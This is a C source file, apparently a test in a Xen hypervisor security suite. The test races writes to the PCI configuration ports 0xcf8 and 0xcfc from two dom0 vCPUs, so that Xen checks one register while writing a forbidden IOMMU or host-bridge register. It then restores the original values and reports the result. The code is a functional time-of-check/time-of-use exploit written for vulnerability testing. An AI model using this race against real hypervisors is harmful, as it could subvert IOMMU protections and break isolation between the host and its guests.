// SPDX-License-Identifier: GPL-2.0-only
/*
 * K-CONFIG-RACE: write to one register what Xen judges as a write to another.
 *
 * Xen keeps what dom0 has written to port 0xcf8, once for all its vCPUs. It looks
 * at it to judge what one of them writes to 0xcfc, and again to write it.
 */
#include "registers.h"

#include <pthread.h>
#include <time.h>

#include "../user/frames/paging.h"

static volatile bool judged;

static uint32_t config_address(uint16_t at, unsigned int reg)
{
    return 1U << 31 | (uint32_t)at << 8 | reg;
}

/* A register of edu's that only stores, and one that is not dom0's to write. */
#define LINE    0x3c
#define SCRATCH 0xdc /* of the host bridge */

static uint32_t forbidden_address;

static void *turn_address(void *unused)
{
    stay_on_cpu(1);
    while ( !judged )
    {
        port_out(0xcf8, 4, config_address(EDU, LINE));
        port_out(0xcf8, 4, forbidden_address);
    }

    return unused;
}

/*
 * A vCPU writes to edu, while another turns the address to and fro between edu
 * and a register that is withheld: the IOMMU's where there is one.
 */
KERNEL_PV_ATTACK("K-CONFIG-RACE", "turn the address between check and write",
                 "for a PVH dom0 Xen looks at it once")
{
    static const uint8_t mark = 0x5a;
    static const time_t seconds = 5;
    const time_t end = time(NULL) + seconds;
    const uint16_t iommu = iommu_function();
    const uint16_t at = iommu ? iommu : HOST_BRIDGE;
    const unsigned int reg = iommu ? LINE : SCRATCH;
    const uint32_t before = config_read(at, reg, 1),
                   line = config_read(EDU, LINE, 1);
    pthread_t other;
    bool changed = false;

    if ( sysconf(_SC_NPROCESSORS_ONLN) < 2 )
        return not_applicable("dom0 has one vCPU");
    forbidden_address = config_address(at, reg);
    if ( pthread_create(&other, NULL, turn_address, NULL) )
        return cannot_try("no second thread");
    stay_on_cpu(0);
    while ( !changed && time(NULL) < end )
    {
        for ( unsigned int i = 0; i < 1000; i++ )
            port_out(0xcfc, 1, mark);
        changed = config_read(at, reg, 1) == mark;
    }
    judged = true;
    pthread_join(other, NULL);
    changed = config_read(at, reg, 1) == mark;
    config_write(EDU, LINE, 1, line);
    config_write(at, reg, 1, before);

    return effect(changed, "a register of %s %s",
                  iommu ? "the IOMMU's" : "the host bridge's",
                  changed ? "changed" : "as it was");
}
